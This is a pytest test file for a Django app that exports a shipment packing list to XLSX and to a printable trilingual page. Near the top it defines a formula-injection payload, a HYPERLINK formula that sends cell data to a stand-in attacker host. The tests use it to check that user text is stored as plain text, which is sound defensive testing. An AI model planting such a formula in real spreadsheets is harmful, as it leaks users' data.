"""The packing list of a shipment: a real XLSX and a page to print, in Dutch, English and Ukrainian."""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from pledges.models import OfferStatus
from pledges.spreadsheets.columns import DATE, Column
from pledges.spreadsheets.xlsx_writer import MAX_WIDTH, XLSX_CONTENT_TYPE, new_workbook, safe_sheet_title, write_sheet
from tests import factories, pages, printed

# Column letters, as documented in pledges.logistics.exports.
NUMBER, OFFER, CATEGORY, DESCRIPTION, POWER, QUANTITY = "ABCDEF"
UNIT_WEIGHT, TOTAL_WEIGHT, VALUE, VALUE_TOTAL, CUSTOMS, CUSTOMS_TOTAL = "GHIJKL"
YEAR, CONDITION, FUEL, LITHIUM = "MNOP"

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def shipment(ukraine_appeal, reference_data):
    return factories.shipment(ukraine_appeal, factories.destination("Kyiv"), carrier="Van der Wal")


@pytest.fixture
def items(shipment, almere_staff, utrecht_staff, ukraine_appeal):
    kyiv = shipment.destination
    generator = factories.offer(
        almere_staff.municipality, ukraine_appeal, almere_staff,
        status=OfferStatus.COLLECTED, destination=kyiv, description="Aggregaat Caterpillar 100 kVA",
        quantity=2, power_kva=Decimal("100.0"), weight_kg=Decimal("1250.5"), value_cents=10_000_00,
        condition="used", year=2020, fuel_in_tank=True,
    )
    battery = factories.offer(
        utrecht_staff.municipality, ukraine_appeal, utrecht_staff,
        status=OfferStatus.COLLECTED, destination=kyiv, category="battery", description=HOSTILE,
        quantity=3, power_kva=None, weight_kg=Decimal("40"), value_cents=1_999_99,
        condition="new", year=2026, lithium_batteries=True,
    )
    factories.on_board(shipment, generator, battery)
    return generator, battery


def download(client, user, shipment):
    client.force_login(user)
    response = client.get(reverse("pledges:shipment_packing_list_xlsx", args=[shipment.pk]))
    content = b"".join(response.streaming_content)
    return response, content


@time_machine.travel(datetime.datetime(2026, 6, 1, 12, 0), tick=False)
def test_it_writes_the_items_as_numbers_with_formats(client, coordinator, shipment, items):
    generator, battery = items

    response, content = download(client, coordinator, shipment)

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert f'filename="paklijst-{shipment.number}.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(content))["Paklijst"]
    assert sheet["A1"].value.startswith("Paklijst / Packing list / Пакувальний лист " + shipment.number)
    assert sheet[f"{DESCRIPTION}2"].value == "Omschrijving / Description / Опис"
    assert sheet[f"{QUANTITY}2"].value == "Aantal / Quantity / Кількість"
    # Lines are ordered by category, then offer number: battery before generator.
    row = {cell.column_letter: cell for cell in sheet[4]}
    assert row[OFFER].value == generator.number
    assert row[CATEGORY].value == "aggregaat / generator / генератор"
    assert row[QUANTITY].value == 2
    assert row[POWER].value == 100
    assert row[UNIT_WEIGHT].value == 1250.5 and row[UNIT_WEIGHT].number_format == "#,##0.0"
    assert row[TOTAL_WEIGHT].value == 2501
    assert row[VALUE].value == 10000 and row[VALUE].number_format == '"€" #,##0.00'
    assert row[VALUE_TOTAL].value == 20000
    # Used, six years old on the day it is valued: 10% off per year leaves 40%.
    assert row[CUSTOMS].value == 4000 and row[CUSTOMS].number_format == '"€" #,##0.00'
    assert row[CUSTOMS_TOTAL].value == 8000
    # New goods keep their estimated value.
    battery_row = {cell.column_letter: cell.value for cell in sheet[3]}
    assert battery_row[CUSTOMS] == pytest.approx(1999.99) and battery_row[POWER] is None
    assert row[YEAR].value == 2020
    assert row[CONDITION].value == "gebruikt / used / вживаний"
    assert row[FUEL].value == "ja / yes / так"
    assert row[LITHIUM].value == "nee / no / ні"


def test_it_writes_a_title_frozen_header_autofilter_fitting_widths_and_totals(client, coordinator, shipment, items):
    response, content = download(client, coordinator, shipment)
    sheet = load_workbook(io.BytesIO(content))["Paklijst"]

    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:P4"
    assert all(sheet.cell(row=2, column=column).font.b for column in range(1, 17))
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOP"}
    assert widths[DESCRIPTION] >= len(HOSTILE)
    assert widths[NUMBER] < widths[DESCRIPTION] <= MAX_WIDTH
    totals = {cell.column_letter: cell.value for cell in sheet[5]}
    assert totals[OFFER] == "Totaal / Total / Усього"
    assert totals[QUANTITY] == 5
    assert totals[TOTAL_WEIGHT] == 2621
    assert totals[VALUE_TOTAL] == pytest.approx(25999.97)
    # Under the yes/no columns: how many units carry fuel or lithium, said in words.
    assert totals[FUEL] == "2 stuks / units / од." and totals[LITHIUM] == "3 stuks / units / од."


def test_it_never_writes_user_text_as_a_formula(client, coordinator, shipment, items):
    _generator, battery = items

    response, content = download(client, coordinator, shipment)

    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.endswith(".xml"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(content))["Paklijst"]
    cell = sheet[f"{DESCRIPTION}3"]
    assert cell.value == HOSTILE
    assert cell.data_type == "s"


@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2", "@SUM(A1)", "\tTab", "\rCR", "bel\x07l"])
def test_it_writes_risky_text_as_plain_text(text):
    book = new_workbook()
    write_sheet(book, "Test", [Column("Tekst")], [[text]])
    buffer = io.BytesIO()
    book.save(buffer)

    assert b"<f>" not in zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")
    cell = load_workbook(buffer)["Test"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\x07", "\ufffd")


def test_it_writes_dates_as_dates():
    book = new_workbook()
    write_sheet(book, "Data", [Column("Datum", DATE)], [[datetime.date(2026, 3, 4)]])
    buffer = io.BytesIO()
    book.save(buffer)

    cell = load_workbook(buffer)["Data"]["A2"]
    assert cell.is_date and cell.value == datetime.datetime(2026, 3, 4)
    assert cell.number_format == "DD-MM-YYYY"


def test_it_keeps_sheet_titles_excel_accepts():
    assert safe_sheet_title("Per gemeente: [Noord/Zuid]*?") == "Per gemeente   Noord Zuid"
    assert len(safe_sheet_title("x" * 40)) == 31


@time_machine.travel(datetime.datetime(2026, 6, 1, 12, 0), tick=False)
def test_it_shows_the_packing_list_as_a_page_to_print(client, finance, shipment, items):
    generator, battery = items
    client.force_login(finance)

    response = client.get(reverse("pledges:shipment_packing_list", args=[shipment.pk]), HTTP_ACCEPT_LANGUAGE="en")

    text = pages.plain(response)
    assert response.status_code == 200
    assert "Omschrijving / Description / Опис" in text
    assert "Douanewaarde per stuk / Customs value per unit / Митна вартість за одиницю" in text
    assert generator.number in text and battery.number in text
    assert HOSTILE in pages.text(response)
    assert "€4,000.00" in text and "€8,000.00" in text  # customs value per unit and total
    assert "Totaal / Total / Усього" in text
    assert "2,501.0" in text


def test_it_keeps_the_packing_list_from_municipal_staff(client, almere_staff, shipment, items):
    client.force_login(almere_staff)

    assert client.get(reverse("pledges:shipment_packing_list", args=[shipment.pk])).status_code == 403
    assert client.get(reverse("pledges:shipment_packing_list_xlsx", args=[shipment.pk])).status_code == 403


def test_it_writes_an_empty_packing_list(client, coordinator, shipment):
    response, content = download(client, coordinator, shipment)

    sheet = load_workbook(io.BytesIO(content))["Paklijst"]
    assert sheet.auto_filter.ref == "A2:P2"
    assert sheet["B3"].value == "Totaal / Total / Усього"
    assert sheet["F3"].value == 0
    assert sheet["O3"].value == sheet["P3"].value == "0 stuks / units / од."


def planned_on_4_june(shipment) -> None:
    shipment.planned_departure, shipment.planned_arrival = datetime.date(2026, 6, 4), datetime.date(2026, 6, 8)
    shipment.save()


@time_machine.travel(datetime.datetime(2026, 6, 1, 12, 0), tick=False)
def test_its_title_row_gives_the_departure_and_the_date_of_the_customs_values(client, coordinator, shipment, items):
    planned_on_4_june(shipment)
    _, content = download(client, coordinator, shipment)
    title = load_workbook(io.BytesIO(content))["Paklijst"]["A1"].value

    # Planned to leave on 4 June; before it leaves, valued as of today, as the printed page says.
    assert "Vertrek / Departure / Відправлення: 04-06-2026" in title
    assert "Douanewaarde per / Customs value as of / Митна вартість станом на: 01-06-2026" in title
    shipment.departed_on = datetime.date(2026, 6, 2)
    shipment.save()
    _, content = download(client, coordinator, shipment)
    title = load_workbook(io.BytesIO(content))["Paklijst"]["A1"].value
    assert "Відправлення: 02-06-2026" in title and "станом на: 02-06-2026" in title


def test_the_packing_list_prints_landscape_one_page_wide(client, coordinator, shipment, items):
    _, content = download(client, coordinator, shipment)

    printed.assert_prints_landscape_one_page_wide(load_workbook(io.BytesIO(content))["Paklijst"])


@time_machine.travel(datetime.datetime(2026, 6, 1, 12, 0), tick=False)
def test_the_page_and_the_sheet_total_the_dangerous_goods_alike(client, coordinator, shipment, items):
    planned_on_4_june(shipment)
    client.force_login(coordinator)

    text = pages.plain(client.get(reverse("pledges:shipment_packing_list", args=[shipment.pk])))

    assert "2 stuks / units / од." in text and "3 stuks / units / од." in text
    assert "04-06-2026" in text and "01-06-2026" in text
